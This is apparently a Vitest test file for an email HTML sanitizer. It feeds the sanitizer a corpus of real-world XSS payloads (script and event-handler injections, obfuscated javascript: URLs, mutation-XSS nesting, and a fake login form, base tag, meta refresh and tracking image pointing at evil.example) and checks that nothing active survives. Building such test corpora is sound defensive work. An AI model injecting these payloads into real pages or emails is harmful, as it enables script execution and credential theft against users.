import { describe, expect, it } from 'vitest'
import { sanitizeEmailHtml } from '#app/domain/email-html.server.ts'

/** Real-world XSS shapes (OWASP cheat sheet, mXSS write-ups) as they arrive in email HTML. */
const CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href="jav&#x09;ascript:alert(1)">b</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">c</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
  '<svg onload=alert(1)><circle/></svg>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=p type=password><button>Log in</button></form>',
  '<style>body{display:none}</style>',
  '<div style="background:url(https://evil.example/t.png)">e</div>',
  '<div style="width:expression(alert(1))">f</div>',
  '<div style="color: red; background-image: url(javascript:alert(1))">g</div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<xmp><script>alert(1)</script></xmp>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<a href="https://ok.example" onclick="alert(1)">h</a>',
  '<details open ontoggle=alert(1)>i</details>',
]

describe('sanitizeEmailHtml', () => {
  it.each(CORPUS)('leaves nothing active in %s', (html) => {
    const out = sanitizeEmailHtml(`<p>before</p>${html}<p>after</p>`)
    expect(out).not.toMatch(
      /<script|<style|<meta|<base|<form|<input|<iframe|<object|<embed|<svg|<math|<noscript|<xmp/i,
    )
    expect(out).not.toMatch(/\son\w+\s*=/i)
    expect(out).not.toMatch(/javascript:|data:|expression\(|url\(/i)
    expect(out).toContain('<p>before</p>')
  })

  it('keeps formatting, safe styles, https links (opening elsewhere) and quote containers', () => {
    const out = sanitizeEmailHtml(
      '<div class="gmail_quote other" style="color: #333; position: fixed"><a href="https://example.com">x</a><img src="cid:abc"></div>',
    )
    expect(out).toBe(
      '<div class="gmail_quote" style="color:#333"><a href="https://example.com" target="_blank" rel="noopener noreferrer nofollow">x</a><img src="cid:abc" /></div>',
    )
  })
})
